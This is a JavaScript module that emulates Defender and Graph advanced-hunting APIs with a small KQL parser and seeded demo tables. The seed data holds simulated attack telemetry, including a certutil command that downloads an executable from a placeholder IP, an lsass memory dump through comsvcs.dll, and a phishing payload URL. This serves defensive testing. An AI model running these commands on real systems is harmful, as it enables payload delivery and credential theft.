// @ts-check
'use strict';
// Advanced hunting on both APIs with a tiny KQL subset:
//   Table | where Col == "x" (==, !=, =~, !~, has, contains, startswith, >, >=, <, <= against literals or ago(7d);
//   conditions joined with and/or) | take N | limit N | project a, b | count | order by Col [desc|asc]
//   | summarize Name = count() | dcount(Col) | min(Col) | max(Col), … [by Col, …]
// Results are streamed in chunks so that generated tables of 100,000 rows stay cheap.
const { HttpError, toApiTime } = require('./util');

const TYPES = ['String', 'DateTime', 'Int32', 'Int64', 'Double', 'Boolean', 'Dynamic', 'Guid'];
const MAX_ROWS = 100_000;

/** A table schema: Timestamp is a DateTime, the other columns Strings unless `types` says otherwise. */
const S = (/** @type {string[]} */ names, /** @type {Record<string, string>} */ types = {}) =>
	names.map((name) => ({
		name,
		type: types[name] ?? (name === 'Timestamp' ? 'DateTime' : 'String'),
	}));
// The columns of the email tables the seeds fill (shared by the demo data and the phishing seed).
const EMAIL_EVENTS_SCHEMA = S([
	'Timestamp',
	'NetworkMessageId',
	'RecipientEmailAddress',
	'SenderFromAddress',
	'Subject',
	'DeliveryAction',
	'DeliveryLocation',
	'ThreatTypes',
]);
const URL_CLICK_EVENTS_SCHEMA = S(
	[
		'Timestamp',
		'AccountUpn',
		'Url',
		'ActionType',
		'IsClickedThrough',
		'Workload',
		'NetworkMessageId',
	],
	{ IsClickedThrough: 'Boolean' },
);

/**
 * @typedef {{ name: string, type: string }} Column
 * @typedef {Record<string, unknown>} Row
 * @typedef {{ name: string, schema: Column[], rowCount: number, row: (i: number) => Row }} Table
 * @typedef {{ schema: Column[], rows?: Row[], rowCount?: number, row?: (i: number) => Row }} TableSpec
 *   explicit `rows`, or `rowCount` with a `row(i)` generator (or with synthetic values when `row` is absent)
 * @typedef {{ kind: string, text: string, value?: unknown, line: number, col: number }} Token
 */

/** @param {string} query @returns {Token[]} */
function tokenize(query) {
	/** @type {Token[]} */
	const tokens = [];
	let line = 1;
	let col = 1;
	let i = 0;
	const take = (
		/** @type {string} */ kind,
		/** @type {string} */ text,
		/** @type {unknown} */ value,
	) => {
		tokens.push({ kind, text, value, line, col });
		i += text.length;
		col += text.length;
	};
	while (i < query.length) {
		const rest = query.slice(i);
		let m;
		if (query[i] === '\n') {
			i++;
			line++;
			col = 1;
		} else if ((m = /^[ \t\r]+|^\/\/[^\n]*/.exec(rest))) {
			i += m[0].length;
			col += m[0].length;
		} else if ((m = /^[A-Za-z_][A-Za-z0-9_]*/.exec(rest))) {
			take('ident', m[0], m[0]);
		} else if ((m = /^\d+(\.\d+)?/.exec(rest))) {
			take('number', m[0], Number(m[0]));
		} else if ((m = /^"((?:[^"\\\n]|\\.)*)"|^'((?:[^'\\\n]|\\.)*)'/.exec(rest))) {
			const escapes = /** @type {Record<string, string>} */ ({ n: '\n', r: '\r', t: '\t' });
			take(
				'string',
				m[0],
				(m[1] ?? m[2]).replace(/\\(.)/g, (_, c) => escapes[c] ?? c),
			);
		} else if ((m = /^(==|!=|=~|!~|>=|<=|>|<|=|\(|\)|\||,)/.exec(rest))) {
			take('op', m[0], m[0]);
		} else {
			take('other', query[i], query[i]);
		}
	}
	tokens.push({ kind: 'eof', text: '', line, col });
	return tokens;
}

/** @param {Token} token */
const parseError = (token) =>
	new HttpError(
		400,
		'BadRequest',
		`Query could not be parsed at '${token.text}' on line [${token.line},${token.col}]`,
	);
/** @param {Token} token */
const unresolved = (token) =>
	new HttpError(
		400,
		'BadRequest',
		`Failed to resolve table or column expression named '${token.text}' on line [${token.line},${token.col}]`,
	);

/**
 * Parses and plans a query against the tenant's tables; every error surfaces here, before
 * the answer starts streaming.
 * @param {string} query @param {Map<string, Table>} tables
 * @returns {{ table: Table, schema: Column[], rows: () => Iterable<Row> }}
 */
function plan(query, tables) {
	const tokens = tokenize(query);
	let pos = 0;
	const next = () => tokens[pos++];
	/** @param {string} kind */
	const expect = (kind) => {
		const token = next();
		if (token.kind !== kind) throw parseError(token);
		return token;
	};

	/** @param {string} text */
	const expectText = (text) => {
		const token = next();
		if (token.text !== text) throw parseError(token);
		return token;
	};

	/** A literal, or ago(<n>d|h|m|s) as an ISO time. */
	const literal = () => {
		const token = next();
		if (token.kind === 'string' || token.kind === 'number') return token.value;
		if (token.text === 'true' || token.text === 'false') return token.text === 'true';
		if (token.text === 'ago') {
			expectText('(');
			const amount = expect('number');
			const unit = expect('ident');
			const ms = /** @type {Record<string, number>} */ ({
				d: 86_400_000,
				h: 3_600_000,
				m: 60_000,
				s: 1000,
			})[unit.text];
			if (!ms) throw parseError(unit);
			expectText(')');
			return new Date(Date.now() - /** @type {number} */ (amount.value) * ms).toISOString();
		}
		throw parseError(token);
	};

	/** `Col op literal` terms joined by and/or (and binds tighter). @returns {(row: Row) => boolean} */
	const parseCondition = () => {
		/** @type {((row: Row) => boolean)[][]} */
		const alternatives = [[]];
		for (;;) {
			const name = column(expect('ident'));
			const opToken = next();
			const op = opToken.text;
			if (
				!['==', '!=', '=~', '!~', 'has', 'contains', 'startswith', '>', '>=', '<', '<='].includes(
					op,
				)
			)
				throw parseError(opToken);
			const expected = literal();
			const lowerExpected = String(expected).toLowerCase();
			/** @type {(v: unknown) => boolean} */
			let test;
			if (op === '=~' || op === '!~')
				test = (v) => (String(v).toLowerCase() === lowerExpected) !== (op === '!~');
			// KQL's startswith ignores case (startswith_cs does not).
			else if (op === 'startswith')
				test = (v) =>
					v !== null && v !== undefined && String(v).toLowerCase().startsWith(lowerExpected);
			else if (op === 'has' || op === 'contains')
				test = (v) =>
					v !== null && v !== undefined && String(v).toLowerCase().includes(lowerExpected);
			else if (op === '==' || op === '!=')
				test = (v) =>
					(typeof expected === 'string' ? String(v) === expected : v === expected) !==
					(op === '!=');
			else
				test = (v) =>
					v !== null &&
					v !== undefined &&
					ORDERED[/** @type {keyof typeof ORDERED} */ (op)](compare(v, expected));
			alternatives[alternatives.length - 1].push((row) => test(row[name]));
			if (tokens[pos].text === 'and') pos++;
			else if (tokens[pos].text === 'or') {
				pos++;
				alternatives.push([]);
			} else break;
		}
		return (row) => alternatives.some((all) => all.every((term) => term(row)));
	};

	const tableToken = expect('ident');
	const table = tables.get(tableToken.text);
	if (!table) throw unresolved(tableToken);
	let schema = table.schema;
	/** @type {(rows: Iterable<Row>) => Iterable<Row>} */
	let pipeline = (rows) => rows;
	/** @param {Token} token */
	const column = (token) => {
		const found = schema.find((c) => c.name === token.text);
		if (!found) throw unresolved(token);
		return found.name;
	};
	/** @param {(rows: Iterable<Row>) => Iterable<Row>} stage */
	const then = (stage) => {
		const previous = pipeline;
		pipeline = (rows) => stage(previous(rows));
	};

	while (tokens[pos].kind !== 'eof') {
		if (next().text !== '|') throw parseError(tokens[pos - 1]);
		const operator = expect('ident');
		if (operator.text === 'where') {
			const condition = parseCondition();
			then(function* (rows) {
				for (const row of rows) if (condition(row)) yield row;
			});
		} else if (operator.text === 'take' || operator.text === 'limit') {
			const n = expect('number');
			if (!Number.isInteger(n.value)) throw parseError(n);
			const limit = /** @type {number} */ (n.value);
			then(function* (rows) {
				if (limit <= 0) return;
				let taken = 0;
				for (const row of rows) {
					yield row;
					if (++taken >= limit) return;
				}
			});
		} else if (operator.text === 'project') {
			const names = [column(expect('ident'))];
			while (tokens[pos].text === ',') {
				pos++;
				names.push(column(expect('ident')));
			}
			schema = names.map((n) => /** @type {Column} */ (schema.find((c) => c.name === n)));
			then(function* (rows) {
				for (const row of rows) yield Object.fromEntries(names.map((n) => [n, row[n]]));
			});
		} else if (
			(operator.text === 'order' || operator.text === 'sort') &&
			tokens[pos].text === 'by'
		) {
			pos++;
			const name = column(expect('ident'));
			const descending = tokens[pos].text !== 'asc';
			if (tokens[pos].text === 'asc' || tokens[pos].text === 'desc') pos++;
			then((rows) => [...rows].sort((a, b) => compare(a[name], b[name]) * (descending ? -1 : 1)));
		} else if (operator.text === 'summarize') {
			/** @type {{ name: string, fn: string, of: string | null }[]} */
			const aggregates = [];
			do {
				if (tokens[pos].text === ',') pos++;
				const first = expect('ident');
				const named = tokens[pos].text === '=';
				if (named) pos++;
				const fnToken = named ? expect('ident') : first;
				if (!['count', 'dcount', 'min', 'max'].includes(fnToken.text)) throw parseError(fnToken);
				expectText('(');
				const of = fnToken.text === 'count' ? null : column(expect('ident'));
				expectText(')');
				aggregates.push({
					name: named ? first.text : fnToken.text === 'count' ? 'count_' : `${fnToken.text}_${of}`,
					fn: fnToken.text,
					of,
				});
			} while (tokens[pos].text === ',');
			/** @type {string[]} */
			const by = [];
			if (tokens[pos].text === 'by') {
				pos++;
				by.push(column(expect('ident')));
				while (tokens[pos].text === ',') {
					pos++;
					by.push(column(expect('ident')));
				}
			}
			const typeOf = (/** @type {string} */ name) =>
				/** @type {Column} */ (schema.find((c) => c.name === name)).type;
			schema = [
				...by.map((name) => ({ name, type: typeOf(name) })),
				...aggregates.map((a) => ({
					name: a.name,
					type: a.of === null || a.fn === 'dcount' ? 'Int64' : typeOf(a.of),
				})),
			];
			then(function* (rows) {
				/** @type {Map<string, { key: Row, values: Row[] }>} */
				const groups = new Map();
				for (const row of rows) {
					const key = Object.fromEntries(by.map((name) => [name, row[name]]));
					const id = JSON.stringify(key);
					const group = groups.get(id) ?? { key, values: [] };
					group.values.push(row);
					groups.set(id, group);
				}
				for (const { key, values } of groups.values()) {
					const result = { ...key };
					for (const a of aggregates) {
						const of = a.of;
						const present =
							of === null
								? []
								: values.map((row) => row[of]).filter((v) => v !== null && v !== undefined);
						result[a.name] =
							a.fn === 'count'
								? values.length
								: a.fn === 'dcount'
									? new Set(present.map(String)).size
									: present.reduce(
											(best, v) =>
												best === null || compare(v, best) * (a.fn === 'min' ? -1 : 1) > 0
													? v
													: best,
											/** @type {unknown} */ (null),
										);
					}
					yield result;
				}
			});
		} else if (operator.text === 'count') {
			schema = [{ name: 'Count', type: 'Int64' }];
			then(function* (rows) {
				yield { Count: Array.from(rows).length };
			});
		} else {
			throw parseError(operator);
		}
	}

	const finalSchema = schema;
	const run = pipeline;
	return {
		table,
		schema: finalSchema,
		*rows() {
			let emitted = 0;
			for (const row of run(scan(table))) {
				if (emitted++ >= MAX_ROWS) return; // the services cap a result at 100,000 rows
				yield Object.fromEntries(finalSchema.map((c) => [c.name, row[c.name] ?? null]));
			}
		},
	};
}

/** @type {Record<'>' | '>=' | '<' | '<=', (order: number) => boolean>} */
const ORDERED = { '>': (c) => c > 0, '>=': (c) => c >= 0, '<': (c) => c < 0, '<=': (c) => c <= 0 };

/** Orders numbers as numbers and everything else (ISO times included) as text. @param {unknown} a @param {unknown} b */
function compare(a, b) {
	if (typeof a === 'number' && typeof b === 'number') return a - b;
	const x = String(a ?? '');
	const y = String(b ?? '');
	return x < y ? -1 : x > y ? 1 : 0;
}

/** @param {Table} table */
function* scan(table) {
	for (let i = 0; i < table.rowCount; i++) yield table.row(i);
}

/** Synthetic value of a generated table's cell. @param {Column} column @param {number} i */
function syntheticValue(column, i) {
	switch (column.type) {
		case 'DateTime':
			return toApiTime(Date.UTC(2026, 0, 1) + i * 1000);
		case 'Int32':
		case 'Int64':
			return i;
		case 'Double':
			return i + 0.5;
		case 'Boolean':
			return i % 2 === 0;
		case 'Guid':
			return `00000000-0000-4000-8000-${i.toString(16).padStart(12, '0')}`;
		case 'Dynamic':
			return JSON.stringify({ index: i });
		default:
			return `${column.name}-${i}`;
	}
}

/** @param {string} name @param {TableSpec} spec @returns {Table} */
function toTable(name, spec) {
	if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)) throw new Error(`Invalid table name: ${name}`);
	const schema = spec.schema.map(({ name: columnName, type }) => {
		if (!TYPES.includes(type))
			throw new Error(`Column ${columnName}: unknown type ${type} (use ${TYPES.join(', ')})`);
		return { name: columnName, type };
	});
	if (spec.rows) {
		const rows = spec.rows;
		return { name, schema, rowCount: rows.length, row: (i) => rows[i] };
	}
	const row =
		spec.row ?? ((i) => Object.fromEntries(schema.map((c) => [c.name, syntheticValue(c, i)])));
	return { name, schema, rowCount: spec.rowCount ?? 0, row };
}

/** A few rows per tenant so that hunting works out of the box (e.g. for the demo). */
function defaultTables() {
	const at = (/** @type {number} */ minutesAgo) => toApiTime(Date.now() - minutesAgo * 60_000);
	const devices = [
		[
			'3f2a9c0d6e1b4a7f8c5d2e9b0a1c3d4e5f6a7b8c',
			'ws-0101.contoso.local',
			'Windows11',
			'20.61.10.4',
		],
		[
			'8b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c',
			'ws-0102.contoso.local',
			'Windows10',
			'20.61.10.5',
		],
		[
			'c0ffee00112233445566778899aabbccddeeff00',
			'srv-db01.contoso.local',
			'WindowsServer2022',
			'20.61.12.9',
		],
	];
	const processes = [
		['powershell.exe', 'powershell.exe -enc SQBFAFgA', 'alice'],
		['cmd.exe', 'cmd.exe /c whoami', 'bob'],
		['rundll32.exe', 'rundll32.exe comsvcs.dll, MiniDump 624 lsass.dmp full', 'SYSTEM'],
		['certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe', 'alice'],
		['notepad.exe', 'notepad.exe C:\\Users\\carol\\notes.txt', 'carol'],
	];
	const [ws1, ws2, srv] = devices;
	return new Map([
		[
			'DeviceNetworkEvents',
			toTable('DeviceNetworkEvents', {
				schema: S(
					[
						'Timestamp',
						'DeviceId',
						'DeviceName',
						'ActionType',
						'RemoteIP',
						'RemotePort',
						'RemoteUrl',
						'LocalIP',
						'InitiatingProcessFileName',
						'InitiatingProcessAccountName',
					],
					{ RemotePort: 'Int32' },
				),
				rows: [
					{
						Timestamp: at(50),
						DeviceId: ws1[0],
						DeviceName: ws1[1],
						ActionType: 'ConnectionSuccess',
						RemoteIP: '203.0.113.7',
						RemotePort: 443,
						RemoteUrl: 'evil.example.com',
						LocalIP: '10.0.0.11',
						InitiatingProcessFileName: 'powershell.exe',
						InitiatingProcessAccountName: 'alice',
					},
					{
						Timestamp: at(45),
						DeviceId: srv[0],
						DeviceName: srv[1],
						ActionType: 'InboundConnectionAccepted',
						RemoteIP: '10.0.0.11',
						RemotePort: 1433,
						RemoteUrl: '',
						LocalIP: '10.0.2.9',
						InitiatingProcessFileName: 'sqlservr.exe',
						InitiatingProcessAccountName: 'mssql',
					},
				],
			}),
		],
		[
			'DeviceLogonEvents',
			toTable('DeviceLogonEvents', {
				schema: S([
					'Timestamp',
					'DeviceId',
					'DeviceName',
					'ActionType',
					'LogonType',
					'AccountDomain',
					'AccountName',
					'RemoteIP',
					'RemoteDeviceName',
				]),
				rows: [
					{
						Timestamp: at(70),
						DeviceId: ws1[0],
						DeviceName: ws1[1],
						ActionType: 'LogonSuccess',
						LogonType: 'Interactive',
						AccountDomain: 'contoso',
						AccountName: 'alice',
						RemoteIP: '',
						RemoteDeviceName: '',
					},
					{
						Timestamp: at(40),
						DeviceId: srv[0],
						DeviceName: srv[1],
						ActionType: 'LogonFailed',
						LogonType: 'Network',
						AccountDomain: 'contoso',
						AccountName: 'administrator',
						RemoteIP: '10.0.0.11',
						RemoteDeviceName: ws1[1],
					},
				],
			}),
		],
		[
			'IdentityLogonEvents',
			toTable('IdentityLogonEvents', {
				schema: S([
					'Timestamp',
					'AccountUpn',
					'AccountName',
					'AccountDomain',
					'ActionType',
					'LogonType',
					'Application',
					'Protocol',
					'DeviceName',
					'IPAddress',
					'Location',
					'FailureReason',
				]),
				rows: [
					{
						Timestamp: at(80),
						AccountUpn: 'alice@contoso.com',
						AccountName: 'alice',
						AccountDomain: 'contoso.com',
						ActionType: 'LogonSuccess',
						LogonType: 'Interactive',
						Application: 'Microsoft 365',
						Protocol: '',
						DeviceName: ws1[1],
						IPAddress: '198.51.100.20',
						Location: 'NL',
						FailureReason: '',
					},
					{
						Timestamp: at(30),
						AccountUpn: 'alice@contoso.com',
						AccountName: 'alice',
						AccountDomain: 'contoso.com',
						ActionType: 'LogonFailed',
						LogonType: 'Interactive',
						Application: 'Microsoft 365',
						Protocol: '',
						DeviceName: '',
						IPAddress: '203.0.113.7',
						Location: 'RU',
						FailureReason: 'InvalidPassword',
					},
				],
			}),
		],
		[
			'DeviceFileEvents',
			toTable('DeviceFileEvents', {
				schema: S([
					'Timestamp',
					'DeviceId',
					'DeviceName',
					'ActionType',
					'FileName',
					'FolderPath',
					'SHA1',
					'SHA256',
					'MD5',
					'InitiatingProcessFileName',
				]),
				rows: [ws1, ws2].map(([id, name], i) => ({
					Timestamp: at(55 - i * 10),
					DeviceId: id,
					DeviceName: name,
					ActionType: 'FileCreated',
					FileName: 'invoice.exe',
					FolderPath: 'C:\\Users\\Public\\Downloads',
					SHA1: '3395856ce81f2b7382dee72602f798b642f14140',
					SHA256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
					MD5: '0cc175b9c0f1b6a831c399e269772661',
					InitiatingProcessFileName: 'outlook.exe',
				})),
			}),
		],
		[
			'EmailEvents',
			toTable('EmailEvents', {
				schema: EMAIL_EVENTS_SCHEMA,
				rows: [
					{
						Timestamp: at(90),
						NetworkMessageId: '6f3c1a2b-0d4e-4f5a-9b8c-7d6e5f4a3b2c',
						RecipientEmailAddress: 'carol@contoso.com',
						SenderFromAddress: 'billing@evil.example.com',
						Subject: 'Invoice overdue',
						DeliveryAction: 'Delivered',
						DeliveryLocation: 'Inbox/folder',
						ThreatTypes: 'Phish',
					},
				],
			}),
		],
		[
			'UrlClickEvents',
			toTable('UrlClickEvents', {
				schema: URL_CLICK_EVENTS_SCHEMA,
				rows: [
					{
						Timestamp: at(85),
						AccountUpn: 'carol@contoso.com',
						Url: 'https://evil.example.com/payload.ps1',
						ActionType: 'ClickAllowed',
						IsClickedThrough: true,
						Workload: 'Email',
						NetworkMessageId: '6f3c1a2b-0d4e-4f5a-9b8c-7d6e5f4a3b2c',
					},
				],
			}),
		],
		[
			'DeviceInfo',
			toTable('DeviceInfo', {
				schema: [
					{ name: 'Timestamp', type: 'DateTime' },
					{ name: 'DeviceId', type: 'String' },
					{ name: 'DeviceName', type: 'String' },
					{ name: 'OSPlatform', type: 'String' },
					{ name: 'PublicIP', type: 'String' },
					{ name: 'IsAzureADJoined', type: 'Boolean' },
				],
				rows: devices.map(([id, name, os, ip], i) => ({
					Timestamp: at(10 + i),
					DeviceId: id,
					DeviceName: name,
					OSPlatform: os,
					PublicIP: ip,
					IsAzureADJoined: i < 2,
				})),
			}),
		],
		[
			'DeviceProcessEvents',
			toTable('DeviceProcessEvents', {
				schema: [
					{ name: 'Timestamp', type: 'DateTime' },
					{ name: 'DeviceId', type: 'String' },
					{ name: 'DeviceName', type: 'String' },
					{ name: 'ActionType', type: 'String' },
					{ name: 'FileName', type: 'String' },
					{ name: 'ProcessCommandLine', type: 'String' },
					{ name: 'ProcessId', type: 'Int64' },
					{ name: 'AccountName', type: 'String' },
					{ name: 'AdditionalFields', type: 'Dynamic' },
					...S(['AccountDomain', 'FolderPath', 'SHA256', 'InitiatingProcessFileName']),
				],
				rows: processes.map(([file, cmd, account], i) => ({
					Timestamp: at(60 - i * 5),
					DeviceId: devices[i % 3][0],
					DeviceName: devices[i % 3][1],
					ActionType: 'ProcessCreated',
					FileName: file,
					ProcessCommandLine: cmd,
					ProcessId: 4100 + i * 12,
					AccountName: account,
					AccountDomain: 'contoso',
					FolderPath: `C:\\Windows\\System32\\${file}`,
					SHA256: null,
					InitiatingProcessFileName: 'explorer.exe',
					AdditionalFields: JSON.stringify({
						ProcessIntegrityLevel: i === 2 ? 'System' : 'Medium',
					}), // Dynamic as a JSON string, as XDR often sends it
				})),
			}),
		],
	]);
}

/** Resolves once the response can take more data (or the client went away). @param {import('node:http').ServerResponse} res */
function drained(res) {
	return new Promise((resolve) => {
		const done = () => {
			res.off('drain', done);
			res.off('close', done);
			resolve(undefined);
		};
		res.on('drain', done);
		res.on('close', done);
	});
}

/**
 * @param {import('node:http').ServerResponse} res
 * @param {string} head JSON text up to the results array's opening bracket
 * @param {Iterable<Row>} rows
 * @param {(count: number, bytes: number) => string} tail JSON text after the array's closing bracket
 */
async function streamRows(res, head, rows, tail) {
	res.writeHead(200, { 'content-type': 'application/json; charset=utf-8' });
	let chunk = head;
	let separator = '';
	let count = 0;
	let bytes = 0;
	for (const row of rows) {
		const text = JSON.stringify(row);
		chunk += separator + text;
		separator = ',';
		count++;
		bytes += text.length;
		if (chunk.length >= 64 * 1024) {
			const ok = res.write(chunk);
			chunk = '';
			if (!ok) await drained(res);
			if (res.destroyed) return;
		}
	}
	res.end(chunk + tail(count, bytes));
}

/** @param {string} seconds */
const timeSpan = (seconds) => `00:00:${seconds.padStart(10, '0')}`;

const ALERT_EVIDENCE_COLUMNS = [
	'Timestamp',
	'AlertId',
	'Title',
	'ServiceSource',
	'DetectionSource',
	'EntityType',
	'EvidenceRole',
	'DeviceId',
	'DeviceName',
	'AccountName',
	'AccountDomain',
	'AccountSid',
	'AccountUpn',
	'FileName',
	'FolderPath',
	'SHA1',
	'SHA256',
	'ProcessCommandLine',
	'RemoteIP',
	'RemoteUrl',
	'NetworkMessageId',
	'EmailSubject',
	'RegistryKey',
	'RegistryValueName',
	'RegistryValueData',
];

/**
 * AlertEvidence as the incidents' alerts have it right now: one row per entity of each alert.
 * @param {{ alert: import('./incidents').Alert }[]} entries
 */
function alertEvidenceTable(entries) {
	/** @type {Row[]} */
	const rows = [];
	for (const { alert: a } of entries) {
		const base = {
			Timestamp: a.createdTime,
			AlertId: a.id,
			Title: a.title,
			ServiceSource: 'Microsoft Defender for Endpoint',
			DetectionSource: 'Antivirus',
			EvidenceRole: 'Related',
		};
		const device = { DeviceId: a.device.id, DeviceName: a.device.dnsName };
		const add = (/** @type {string} */ type, /** @type {Row} */ fields) =>
			rows.push({
				...Object.fromEntries(ALERT_EVIDENCE_COLUMNS.map((c) => [c, null])),
				...base,
				EntityType: type,
				...fields,
			});
		add('Machine', { ...device, EvidenceRole: 'Impacted' });
		add('User', {
			AccountName: a.account.name,
			AccountDomain: a.account.domain,
			AccountSid: a.account.sid,
			AccountUpn: a.account.upn,
		});
		add('Process', {
			...device,
			FileName: a.process.fileName,
			SHA1: a.process.sha1,
			SHA256: a.process.sha256,
			ProcessCommandLine: a.process.commandLine,
		});
		for (const e of a.evidence) {
			if (e.kind === 'file')
				add('File', {
					...device,
					FileName: e.fileName,
					FolderPath: e.filePath,
					SHA1: e.sha1,
					SHA256: e.sha256,
				});
			else if (e.kind === 'ip') add('Ip', { RemoteIP: e.address });
			else if (e.kind === 'url') add('Url', { RemoteUrl: e.url });
			else if (e.kind === 'user')
				add('User', {
					AccountName: e.name,
					AccountDomain: e.domain,
					AccountSid: e.sid,
					AccountUpn: e.upn,
				});
			else if (e.kind === 'mailbox') add('Mailbox', { AccountUpn: e.upn });
			else if (e.kind === 'emailMessage')
				add('MailMessage', { NetworkMessageId: e.networkMessageId, EmailSubject: e.subject });
			else if (e.kind === 'registry')
				add('RegistryValue', {
					RegistryKey: `${e.hive}\\${e.key}`,
					RegistryValueName: e.valueName,
					RegistryValueData: e.value,
				});
			else add('SecurityGroup', { AccountSid: e.id });
		}
	}
	return toTable('AlertEvidence', {
		schema: ALERT_EVIDENCE_COLUMNS.map((name) => ({
			name,
			type: name === 'Timestamp' ? 'DateTime' : 'String',
		})),
		rows,
	});
}

/**
 * @param {{ apiBases: Record<'graph', string>, getTenant: (idOrDomain: string) => { id: string },
 *   alertEntries?: (tenantId: string) => { alert: import('./incidents').Alert }[] }} options
 *   alertEntries: the tenant's alerts, for the AlertEvidence table (unless a test sets its own)
 */
function createHunting({ apiBases, getTenant, alertEntries }) {
	/** @type {Map<string, Map<string, Table>>} */
	const tablesByTenant = new Map();

	/** @param {string} tenantIdOrDomain */
	function tablesOf(tenantIdOrDomain) {
		const tenantId = getTenant(tenantIdOrDomain).id;
		let tables = tablesByTenant.get(tenantId);
		if (!tables) {
			tables = defaultTables();
			tablesByTenant.set(tenantId, tables);
		}
		return tables;
	}

	/** @param {string} tenantId @param {string} name @param {TableSpec} spec */
	function setHuntingTable(tenantId, name, spec) {
		tablesOf(tenantId).set(name, toTable(name, spec));
	}

	/** @param {import('./index').RouteContext} ctx */
	async function queryOf(ctx) {
		const body = await ctx.body();
		const query = body.Query ?? body.query;
		if (typeof query !== 'string' || !query.trim())
			throw new HttpError(400, 'BadRequest', 'The query is empty: provide a KQL query in "Query".');
		const tables = tablesOf(ctx.tenantId);
		if (!alertEntries || tables.has('AlertEvidence')) return plan(query, tables);
		return plan(
			query,
			new Map([...tables, ['AlertEvidence', alertEvidenceTable(alertEntries(ctx.tenantId))]]),
		);
	}

	/** @type {import('./index').Route[]} */
	const routes = [
		{
			api: 'xdr',
			method: 'POST',
			path: /^\/api\/advancedhunting\/run$/i,
			category: 'hunting',
			roles: ['AdvancedHunting.Read.All'],
			handle: async (ctx) => {
				const started = process.hrtime.bigint();
				const { table, schema, rows } = await queryOf(ctx);
				const head = `{"Schema":${JSON.stringify(schema.map((c) => ({ Name: c.name, Type: c.type })))},"Results":[`;
				await streamRows(ctx.res, head, rows(), (count, bytes) => {
					const seconds = (Number(process.hrtime.bigint() - started) / 1e9).toFixed(7);
					const stats = {
						ExecutionTime: Number(seconds),
						resource_usage: {
							cache: {
								memory: { hits: 0, misses: 0, total: 0 },
								disk: { hits: 0, misses: 0, total: 0 },
							},
							cpu: { user: timeSpan(seconds), kernel: '00:00:00', 'total cpu': timeSpan(seconds) },
							memory: { peak_per_node: 16_777_216 + bytes },
						},
						input_dataset_statistics: {
							extents: { total: 1, scanned: 1 },
							rows: { total: table.rowCount, scanned: table.rowCount },
						},
						dataset_statistics: [{ table_row_count: count, table_size: bytes }],
					};
					return `],"Stats":${JSON.stringify(stats)}}`;
				});
			},
		},
		{
			api: 'graph',
			method: 'POST',
			path: /^\/v1\.0\/security\/runHuntingQuery$/i,
			category: 'hunting',
			roles: ['ThreatHunting.Read.All'],
			// Timespan is accepted and not applied: the emulated tables have no retention.
			handle: async (ctx) => {
				const { schema, rows } = await queryOf(ctx);
				const head = `{"@odata.context":${JSON.stringify(`${apiBases.graph}/v1.0/$metadata#microsoft.graph.security.huntingQueryResults`)},"schema":${JSON.stringify(schema)},"results":[`;
				await streamRows(ctx.res, head, rows(), () => ']}');
			},
		},
	];

	return { routes, setHuntingTable };
}

module.exports = { createHunting, EMAIL_EVENTS_SCHEMA, URL_CLICK_EVENTS_SCHEMA };
